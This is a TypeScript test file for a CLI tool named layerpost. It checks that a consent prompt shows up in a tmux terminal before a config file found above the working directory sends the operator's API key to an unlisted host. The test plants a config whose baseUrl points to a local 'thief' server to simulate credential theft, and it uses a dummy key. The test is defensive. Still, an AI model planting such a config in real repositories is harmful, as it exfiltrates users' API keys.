// The consent asked once, in a real terminal (tmux), before a config found above the working directory sends the
// operator's key to a host outside the catalogue: Enter takes the default, No; "y" goes on.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BIN, NODE } from '../helpers/cli.js';
import { startServer, type TestServer } from '../helpers/server.js';

const hasTmux = spawnSync('tmux', ['-V']).status === 0;
const SOCKET = `layerpost-trust-${process.pid}`;
const sessions: string[] = [];
const tmux = (...args: string[]) => execFileSync('tmux', ['-L', SOCKET, ...args], { encoding: 'utf8' });

let repo: string;
let thief: TestServer;
beforeAll(async () => {
  thief = await startServer({
    '/v1/messages': (_q, res) =>
      void res
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ content: [{ type: 'text', text: 'pong' }] })),
  });
  repo = await mkdtemp(join(tmpdir(), 'layerpost-tty-trust-'));
  await mkdir(join(repo, '.git'));
  await mkdir(join(repo, 'sub'));
  await writeFile(
    join(repo, 'layerpost.config.yaml'),
    `product: { name: Planted }\nproviders: []\nprobes:\n  - id: stolen\n    layer: model-quality\n    llm-canary: { api: anthropic, baseUrl: "${thief.url}", model: claude-opus-4-7 }\n`,
  );
  if (hasTmux) tmux('new-session', '-d', '-s', 'keeper', 'sleep 600');
});
afterEach(() => {
  for (const s of sessions.splice(0)) spawnSync('tmux', ['-L', SOCKET, 'kill-session', '-t', s]);
});
afterAll(async () => {
  if (hasTmux) spawnSync('tmux', ['-L', SOCKET, 'kill-server']);
  await thief?.close();
  if (repo) await rm(repo, { recursive: true, force: true });
});

async function waitFor(session: string, pattern: RegExp, timeoutMs = 15_000): Promise<string> {
  const until = Date.now() + timeoutMs;
  let screen = '';
  while (Date.now() < until) {
    screen = tmux('capture-pane', '-p', '-J', '-t', session, '-S', '-200');
    if (pattern.test(screen)) return screen;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`timed out waiting for ${pattern}; screen was:\n${screen}`);
}

function start(): string {
  const session = `lpt${process.pid}${Math.random().toString(36).slice(2, 7)}`;
  sessions.push(session);
  const cmd = [NODE, BIN, 'probe', '--no-status'].map((a) => `'${a}'`).join(' ');
  tmux(
    'new-session',
    '-d',
    '-s',
    session,
    '-x',
    '200',
    '-y',
    '50',
    '-c',
    join(repo, 'sub'),
    `env -u CI NO_COLOR=1 HOME='${repo}' ANTHROPIC_API_KEY=sk-ant-operator-0123456789 HTTPS_PROXY= HTTP_PROXY= ${cmd}; echo "EXIT=$?"; sleep 30`,
  );
  return session;
}

describe.skipIf(!hasTmux)('consent for a config found above the working directory (tmux)', () => {
  it('Enter takes the default, No: exit 2, nothing sent', async () => {
    const s = start();
    const screen = await waitFor(s, /Use this config\?/);
    // The prompt wraps its question to the terminal's width.
    expect(screen.replace(/\s+/g, ' ')).toContain(
      `probe "stolen" sends \${ANTHROPIC_API_KEY} to 127.0.0.1:${thief.port}. Use this config? (y/N)`,
    );
    tmux('send-keys', '-t', s, 'Enter');
    expect(await waitFor(s, /EXIT=\d+/)).toContain('EXIT=2');
    expect(thief.hits).toEqual([]);
  }, 30_000);

  it('"y" uses it, asked once', async () => {
    const s = start();
    await waitFor(s, /Use this config\?/);
    tmux('send-keys', '-t', s, 'y', 'Enter');
    const screen = await waitFor(s, /EXIT=\d+/);
    expect(screen).toContain('EXIT=0');
    expect(screen.match(/Use this config\?/g)).toHaveLength(1);
    expect(thief.hits).toEqual(['POST /v1/messages']);
  }, 30_000);
});
